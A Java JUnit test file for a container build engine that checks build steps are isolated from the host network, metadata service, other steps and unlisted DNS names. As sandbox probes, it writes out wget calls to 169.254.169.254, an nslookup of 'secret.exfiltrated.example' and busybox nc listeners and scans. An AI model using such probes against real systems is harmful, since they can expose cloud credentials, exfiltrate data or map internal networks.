package dev.cairn.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.cairn.build.BuildEvent;
import dev.cairn.build.BuildException;
import dev.cairn.build.BuildRequest;
import dev.cairn.build.BuildResult;
import dev.cairn.build.Limits;
import dev.cairn.build.StepReach;
import dev.cairn.build.TenantId;
import dev.cairn.engine.run.CommandNetwork;
import dev.cairn.engine.run.CommandSurroundings;
import dev.cairn.engine.run.ProxyVariables;
import dev.cairn.linux.network.AllowedAddress;
import dev.cairn.linux.network.NetworkTools;
import java.io.IOException;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.net.ssl.TrustManagerFactory;
import javax.net.ssl.X509TrustManager;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What real steps reach of the machine that runs the test, which listens and writes it down. */
@Tag("slow")
class NativeBuilderNetworkTest {
  @TempDir Path directory;
  private final List<String> reached = new CopyOnWriteArrayList<>();
  private ServerSocket listener;

  @BeforeEach
  void listen() throws IOException {
    assumeTrue(BuilderFixture.isRoot(), "needs root and /usr/bin/busybox (busybox-static)");
    assumeTrue(
        NetworkTools.ALL.stream().allMatch(tool -> tool.find().isPresent()),
        "needs iproute2 and nftables");
    listener = new ServerSocket(0);
    Thread.ofPlatform().daemon().start(this::accept);
  }

  private void accept() {
    while (!listener.isClosed()) {
      try (Socket socket = listener.accept()) {
        reached.add(socket.getLocalAddress().getHostAddress());
        socket
            .getOutputStream()
            .write(
                "HTTP/1.0 200 OK\r\nContent-Length: 4\r\n\r\nown\n"
                    .getBytes(StandardCharsets.US_ASCII));
      } catch (IOException e) {
        // Closed, or the other end is gone.
      }
    }
  }

  @AfterEach
  void close() throws IOException {
    if (listener != null) {
      listener.close();
    }
  }

  /** An address of this machine that is not its loopback. */
  private static String own() throws IOException {
    return NetworkInterface.networkInterfaces()
        .filter(device -> !device.getName().startsWith("cairn"))
        .flatMap(NetworkInterface::inetAddresses)
        .filter(address -> address.getAddress().length == 4 && !address.isLoopbackAddress())
        .map(InetAddress::getHostAddress)
        .findFirst()
        .orElse("127.0.0.1");
  }

  private String fetch(String address) {
    return "busybox wget -q -O - http://" + address + ":" + listener.getLocalPort() + "/";
  }

  private static BuildResult build(
      BuilderFixture fixture, String dockerfile, Optional<StepReach> network, FakePorts.Heard heard)
      throws Exception {
    return fixture.build(fixture.request(dockerfile, Map.of()), limits(network), heard);
  }

  private static Limits limits(Optional<StepReach> network) {
    Limits usual = Limits.DEFAULT;
    return new Limits(
        usual.queue(),
        usual.run(),
        usual.step(),
        usual.push(),
        usual.cpus(),
        usual.memoryBytes(),
        usual.diskBytes(),
        usual.inodes(),
        usual.processes(),
        network);
  }

  private static List<String> warnings(FakePorts.Heard heard) {
    var all = new ArrayList<String>();
    for (BuildEvent.Body body : heard.events) {
      if (body instanceof BuildEvent.Warning warning && warning.code().equals("network-refused")) {
        all.add(warning.sentence());
      }
    }
    return all;
  }

  private static CommandSurroundings around(CommandNetwork network) {
    return CommandSurroundings.USUAL.with(network);
  }

  @Test
  void aStepReachesNeitherTheMachineNorItsNeighboursAndTheLogSaysSo() throws Exception {
    var heard = new FakePorts.Heard();
    try (var fixture = new BuilderFixture(directory)) {
      var result =
          build(
              fixture,
              """
              FROM busybox
              RUN %s; %s; %s; busybox wget -q -O - http://169.254.169.254/; echo went on
              """
                  .formatted(fetch(own()), fetch("127.0.0.1"), fetch("198.18.0.1")),
              Optional.empty(),
              heard);
      assertThat(reached).isEmpty();
      assertThat(heard.log()).contains("went on");
      assertThat(warnings(heard))
          .singleElement()
          .satisfies(sentence ->
              assertThat(sentence)
                  .contains(
                      own() + ":" + listener.getLocalPort() + " (tcp)",
                      "169.254.169.254:80 (tcp)"));
      assertThat(result.usage().figures().get("network.refused")).isGreaterThanOrEqualTo(2);
      assertThat(result.usage().figures()).containsKeys("network.bytesOut", "network.lookups");
    }
  }

  @Test
  void aFailedStepSaysFirstWhatWasRefused() throws Exception {
    var heard = new FakePorts.Heard();
    try (var fixture = new BuilderFixture(directory)) {
      assertThatThrownBy(
              () -> build(fixture, "FROM busybox\nRUN " + fetch(own()), Optional.empty(), heard))
          .isInstanceOf(BuildException.class);
      assertThat(warnings(heard)).singleElement().asString().contains(own());
    }
  }

  @Test
  void aStepReachesWhatTheOperatorLists() throws Exception {
    var heard = new FakePorts.Heard();
    var listed =
        new CommandNetwork.Filtered(
            CommandNetwork.Reach.PUBLIC,
            List.of(AllowedAddress.parse(own() + ":" + listener.getLocalPort())),
            List.of(),
            Optional.empty());
    try (var fixture = new BuilderFixture(directory, around(listed))) {
      build(fixture, "FROM busybox\nRUN " + fetch(own()), Optional.empty(), heard);
      build(
          fixture,
          "FROM busybox\nRUN true && " + fetch(own()),
          Optional.of(StepReach.ISOLATED),
          heard);
      assertThat(heard.log()).containsExactly("own", "own");
      assertThat(reached).hasSize(2);
      build(
          fixture,
          "FROM busybox\nRUN ! " + fetch(own()),
          Optional.of(StepReach.listed(List.of("8.8.8.8"))),
          heard);
      build(
          fixture,
          "FROM busybox\nRUN ! true || ! " + fetch(own()),
          Optional.of(StepReach.NONE),
          heard);
      build(fixture, "FROM busybox\nRUN --network=none ! " + fetch(own()), Optional.empty(), heard);
      assertThat(reached).hasSize(2);
    }
  }

  @Test
  void aStepWithoutANetworkHasNothingButItsLoopback() throws Exception {
    var heard = new FakePorts.Heard();
    try (var fixture = new BuilderFixture(directory)) {
      build(
          fixture,
          "FROM busybox\nRUN --network=none ls /sys/class/net; cat /etc/resolv.conf",
          Optional.empty(),
          heard);
      assertThat(heard.log()).containsExactly("lo");
    }
  }

  @Test
  void stepsAreToldOurResolverAndNothingOfTheMachines() throws Exception {
    var heard = new FakePorts.Heard();
    try (var fixture = new BuilderFixture(directory)) {
      build(fixture, "FROM busybox\nRUN cat /etc/resolv.conf", Optional.empty(), heard);
      assertThat(heard.log()).singleElement().asString().matches("nameserver 198\\.1[89]\\..*\\.1");
    }
  }

  @Test
  void namesThatAreNotListedAreNotResolved() throws Exception {
    var heard = new FakePorts.Heard();
    try (var fixture = new BuilderFixture(directory)) {
      build(
          fixture,
          "FROM busybox\nRUN busybox nslookup secret.exfiltrated.example || echo none",
          Optional.of(StepReach.listed(List.of("*.debian.org"))),
          heard);
      assertThat(heard.log()).contains("none");
      assertThat(warnings(heard))
          .singleElement()
          .asString()
          .contains("name secret.exfiltrated.example (not listed)");
    }
  }

  @Test
  void stepsDoNotReachEachOther() throws Exception {
    var heard = new FakePorts.Heard();
    try (var fixture = new BuilderFixture(directory)) {
      build(
          fixture,
          """
          FROM busybox AS one
          RUN busybox timeout 4 busybox nc -l -p 4711 -e echo met; true
          FROM busybox AS two
          RUN sleep 1; for n in $(busybox seq 2 12); do \
                net=$(sed 's/nameserver //;s/\\.1$//' /etc/resolv.conf); \
                busybox nc -w 1 $net.$n 4711 </dev/null && echo met; done; true
          FROM busybox
          COPY --from=one /etc/passwd /one
          COPY --from=two /etc/passwd /two
          """,
          Optional.empty(),
          heard);
      assertThat(heard.log()).doesNotContain("met");
    }
  }

  @Test
  void authoritiesAndProxiesLeaveNoTrace() throws Exception {
    String dockerfile =
        """
        FROM busybox
        RUN test -z "$SSL_CERT_FILE" || { grep -c BEGIN "$SSL_CERT_FILE"; echo $http_proxy; \
              cat $APT_CONFIG; busybox env | grep -c ca-certificates.crt; } >&2; echo done > /done
        """;
    Path bundle = Files.writeString(directory.resolve("authorities.pem"), pem());
    var around =
        new CommandSurroundings(
            CommandNetwork.PUBLIC,
            Optional.of(bundle),
            new ProxyVariables(
                Optional.of("http://proxy.example:3128"), Optional.empty(), Optional.of("x")));
    var heard = new FakePorts.Heard();
    var fakes = new FakePorts();
    BuildResult with;
    try (var fixture = new BuilderFixture(directory, around, fakes)) {
      with = build(fixture, dockerfile, Optional.empty(), heard);
      assertThat(heard.log())
          .contains(
              "http://proxy.example:3128",
              "Acquire::https::CAInfo \"/run/cairn/ca-certificates.crt\";",
              "16");
      assertThat(Integer.parseInt(heard.log().getFirst())).isGreaterThan(50);
      assertThat(fixture.files(with).lookup("run")).isEmpty();
      assertThat(fixture.text(with, "done")).isEqualTo("done\n");
      String config =
          new String(
              fixture.bytes(fixture.manifest(with).config().digest()), StandardCharsets.UTF_8);
      assertThat(config).doesNotContain("proxy.example").doesNotContain("/run/cairn");
    }
    fakes.records.forgetBuilds();
    // They are in no key: what one has done, another without them need not do.
    try (var fixture = new BuilderFixture(directory, CommandSurroundings.USUAL, fakes)) {
      var heardLess = new FakePorts.Heard();
      assertThat(build(fixture, dockerfile, Optional.empty(), heardLess).image())
          .isEqualTo(with.image());
      assertThat(heardLess.outcomes()).containsOnly(BuildEvent.Outcome.CACHED);
    }
  }

  private static String pem() throws Exception {
    var factory = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
    factory.init((KeyStore) null);
    X509Certificate one =
        ((X509TrustManager) factory.getTrustManagers()[0]).getAcceptedIssuers()[0];
    return "-----BEGIN CERTIFICATE-----\n"
        + Base64.getMimeEncoder().encodeToString(one.getEncoded())
        + "\n-----END CERTIFICATE-----\n";
  }

  @Test
  void theMachinesOwnNetworkIsForOneTenantAndCannotBeNarrowed() throws Exception {
    try (var fixture = new BuilderFixture(directory, around(new CommandNetwork.Host()))) {
      var heard = new FakePorts.Heard();
      String dockerfile = "FROM busybox\nRUN " + fetch("127.0.0.1");
      build(fixture, dockerfile, Optional.empty(), heard);
      assertThat(heard.log()).containsExactly("own");
      assertThatThrownBy(() ->
              build(fixture, dockerfile, Optional.of(StepReach.ISOLATED), new FakePorts.Heard()))
          .isInstanceOfSatisfying(
              BuildException.class, e -> assertThat(e.code()).isEqualTo("network-not-filtered"));
      BuildRequest asked = fixture.request("FROM busybox\nRUN : other", Map.of());
      var other =
          new BuildRequest(
              new TenantId("other"),
              asked.origin(),
              asked.labels(),
              asked.contexts(),
              asked.recipe(),
              asked.cache(),
              asked.inputs(),
              asked.outputs(),
              asked.limits(),
              asked.schedule());
      assertThatThrownBy(() -> fixture.build(other, new FakePorts.Heard()))
          .isInstanceOfSatisfying(
              BuildException.class, e -> assertThat(e.code()).isEqualTo("network-host-shared"));
    }
  }
}
